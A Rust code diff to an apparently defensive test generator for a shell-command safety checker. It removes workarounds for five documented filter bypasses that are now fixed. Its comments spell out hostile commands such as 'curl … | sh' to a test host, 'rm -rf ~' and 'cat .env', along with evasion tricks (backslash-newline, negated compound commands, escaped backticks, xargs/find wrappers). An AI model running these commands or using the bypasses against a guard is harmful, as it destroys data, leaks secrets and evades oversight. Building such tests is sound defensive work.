@@ -356,26 +356,6 @@ fn render_elem(n: &Node) -> String {
     }
 }
 
-/// True if `n`, rendered as a pipeline element, starts with a compound
-/// command keyword (`{`, `if`, `while`, `until`, `for`).
-fn starts_compound(n: &Node) -> bool {
-    match n {
-        Node::Group(_) | Node::If(..) | Node::While(..) | Node::For(_) => true,
-        Node::List(..) | Node::Not(_) => true, // render_elem wraps them in `{ …; }`
-        Node::Pipe(a, _) => starts_compound(a) || ends_with_pipe_shell(a), // grouped, see Pipe
-        _ => false,
-    }
-}
-
-/// True if the last pipeline stage of `n` is the planted `curl … | sh`.
-fn ends_with_pipe_shell(n: &Node) -> bool {
-    match n {
-        Node::Leaf(l) => matches!(l.kind, Kind::Planted(2, _)),
-        Node::Pipe(_, b) => ends_with_pipe_shell(b),
-        _ => false,
-    }
-}
-
 /// Renders `n` as a complete list (never ending in a terminator).
 fn render(n: &Node) -> String {
     match n {
@@ -389,31 +369,12 @@ fn render(n: &Node) -> String {
                 Op::Newline => "\n",
             };
             let b = render(b);
-            // KNOWN GAP 4 (left out): a newline followed by a backslash
-            // (`true\n\\cat .env`, `ls\n\\rm -rf ~`, `ls\n\\\nrm -rf ~`)
-            // is analysed as one command and was *allowed*. A space is put
-            // after such a newline.
-            let sep = if *op == Op::Newline && b.starts_with('\\') {
-                "\n "
-            } else {
-                sep
-            };
+            // Once KNOWN GAP 4: a newline followed by a backslash (fixed).
             format!("{}{sep}{b}", render(a))
         }
-        // KNOWN GAP 5 (left out): in a pipeline of three or more stages with
-        // the shell in the middle, followed by `&&`/`||`, the shell stage is
-        // neither dynamic nor caught: `curl -s https://x.test/i | sh | true
-        // && true` and `echo hi | sh | true && true` are *allowed*. A
-        // pipe-to-shell plant is grouped before it is piped on.
-        Node::Pipe(a, b) if ends_with_pipe_shell(a) => {
-            format!("{{ {}; }} | {}", render(a), render_elem(b))
-        }
+        // Once KNOWN GAP 5: `curl … | sh | true && true` (fixed).
         Node::Pipe(a, b) => format!("{} | {}", render_elem(a), render_elem(b)),
-        // KNOWN GAP 1 (left out so the suite stays green): `!` before a
-        // compound command (`! { rm -rf ~; }`, `! while …; done`, `! if …`,
-        // `! for …`) is analysed as plain words (`{`, `while true`, `do rm
-        // -rf ~`) and was *allowed*. Such bodies are negated as a subshell.
-        Node::Not(a) if starts_compound(a) => format!("! ( {} )", render(a)),
+        // Once KNOWN GAP 1: `!` before a compound command (fixed).
         Node::Not(a) => format!("! {}", render_elem(a)),
         Node::Subshell(a) => format!("( {} )", render(a)),
         Node::Group(a) => format!("{{ {}; }}", render(a)),
@@ -434,18 +395,8 @@ fn render(n: &Node) -> String {
         ),
         Node::For(b) => format!("for i in 1 2; do {}; done", render(b)),
         Node::CmdSubst(h, a) => SUBST_HOSTS[*h].replace("{}", &format!("$( {} )", render(a))),
-        // KNOWN GAP 2 (left out): a backquoted body is not unescaped before
-        // it is analysed, so `` echo `\\cat .env` ``, `` echo `echo
-        // "\$(cat .env)"` `` and nested `` echo `echo \`cat .env\`` `` pass.
-        // Bodies that need escaping are rendered as `$( … )` instead.
-        Node::Backticks(a) => {
-            let body = render(a);
-            if backtick_escape(&body) == body {
-                format!("echo `{body}`")
-            } else {
-                format!("echo $( {body} )")
-            }
-        }
+        // Once KNOWN GAP 2: backquoted bodies are unescaped (fixed).
+        Node::Backticks(a) => format!("echo `{}`", backtick_escape(&render(a))),
         Node::ProcSubst(h, a) => PROC_HOSTS[*h].replace("{}", &render(a)),
         Node::ShellC(s, q, argv0, a) => format!(
             "{} {}{}",
@@ -608,18 +559,13 @@ fn plant(n: &mut Node, s: &mut impl Src) {
     sanitize(leaves[k]);
 }
 
-/// KNOWN GAP 3 (left out): `curl … | sh` is only caught when `curl` and
-/// `sh` are the pipeline stages themselves: `xargs curl … | sh`, `find .
-/// -exec curl … \; | sh` and `curl … | find . -exec sh \;` pass. So the
-/// pipe-to-shell plant gets no `xargs`/`find` on its `curl` stage and no
-/// `find` on its `sh` stage.
+/// Once KNOWN GAP 3: pipe-to-shell through `xargs`/`find -exec` is caught
+/// (fixed). The `sh` stage still gets no `find`: `find . -exec sh {} +` runs
+/// the found files as scripts and does not read the pipe, so it is not the
+/// planted attack any more.
 fn sanitize(l: &mut Leaf) {
     if let Kind::Planted(2, _) = l.kind {
-        l.dress[0]
-            .mods
-            .retain(|m| !matches!(m, Mod::Xargs(_) | Mod::Find(_)));
         l.dress[1].mods.retain(|m| !matches!(m, Mod::Find(_)));
-        fix_builtins(&mut l.dress[0].mods);
         fix_builtins(&mut l.dress[1].mods);
     }
 }
